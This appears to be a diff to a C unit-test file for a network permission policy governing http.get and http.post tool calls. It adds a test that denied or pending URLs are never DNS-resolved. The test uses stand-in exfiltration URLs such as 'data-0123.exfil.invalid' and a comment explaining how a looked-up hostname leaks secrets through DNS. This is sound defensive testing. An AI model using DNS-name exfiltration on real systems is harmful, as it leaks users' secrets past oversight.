@@ -102,6 +102,10 @@ static struct {
     char addr[64];
 } fake[8];
 
+/* How often a name ending in ".exfil.invalid" was looked up: a name the
+ * tool chose, that a DNS server of its choosing would see asked. */
+static int exfil_lookups;
+
 int getaddrinfo(const char *node, const char *service, const struct addrinfo *hints,
                 struct addrinfo **res)
 {
@@ -112,6 +116,9 @@ int getaddrinfo(const char *node, const char *service, const struct addrinfo *hi
     struct addrinfo numeric = {.ai_flags = AI_NUMERICHOST};
 
     memcpy(&real, &symbol, sizeof(real)); /* POSIX: dlsym's pointer is callable */
+    size_t len = node != NULL ? strlen(node) : 0;
+    if (len > 14 && strcmp(node + len - 14, ".exfil.invalid") == 0)
+        __atomic_add_fetch(&exfil_lookups, 1, __ATOMIC_SEQ_CST);
     if (hints != NULL) {
         numeric.ai_socktype = hints->ai_socktype;
         numeric.ai_protocol = hints->ai_protocol;
@@ -409,6 +416,30 @@ static void a_host_not_listed_is_asked_or_denied(void **state)
     one(NULL, "http.get", fmt("%s", url), &a);
     assert_string_equal(a.last, "http.get http://not-listed.invalid/x: needs approval: not "
                                 "covered by the policy (network.allow lists no URL)");
+}
+
+/* The adversarial pass: a name is a channel out before any byte is
+ * sent — the tool's DNS server sees "<secret>.exfil.invalid" asked. A
+ * URL the policy asks about, or denies, is never resolved: not while the
+ * prompt waits, not after a denial; only once it is allowed. */
+static void a_url_is_not_resolved_before_the_policy_allows_it(void **state)
+{
+    (void)state;
+    const char *sandbox = fmt("{'network':{'allow':['http://127.0.0.1:$P/']}}");
+    const char *url = "{'url':'http://data-0123.exfil.invalid/x'}";
+    asked a = {.decision = JPT_DECISION_DENY};
+
+    exfil_lookups = 0;
+    one(sandbox, "http.get", url, &a);
+    one(fmt("{'uncovered':'deny','network':{'allow':['http://127.0.0.1:$P/']}}"), "http.get",
+        url, NULL);
+    one(sandbox, "http.post", "{'url':'http://data-0123.exfil.invalid/x','body':'b'}", &a);
+    assert_int_equal(a.count, 2);
+    assert_int_equal(__atomic_load_n(&exfil_lookups, __ATOMIC_SEQ_CST), 0);
+    /* Allowed: now it is (the counter sees lookups at all). */
+    a = (asked){.decision = JPT_DECISION_ALLOW};
+    one(sandbox, "http.get", url, &a);
+    assert_true(__atomic_load_n(&exfil_lookups, __ATOMIC_SEQ_CST) > 0);
 }
 
 static void allow_always_asks_once_per_url(void **state)
@@ -1392,6 +1423,7 @@ int main(void)
         cmocka_unit_test(an_allowed_url_is_fetched),
         cmocka_unit_test(paths_match_by_whole_segments),
         cmocka_unit_test(a_host_not_listed_is_asked_or_denied),
+        cmocka_unit_test(a_url_is_not_resolved_before_the_policy_allows_it),
         cmocka_unit_test(allow_always_asks_once_per_url),
         cmocka_unit_test(userinfo_is_refused),
         cmocka_unit_test(ip_literals_and_localhost_only_when_listed),
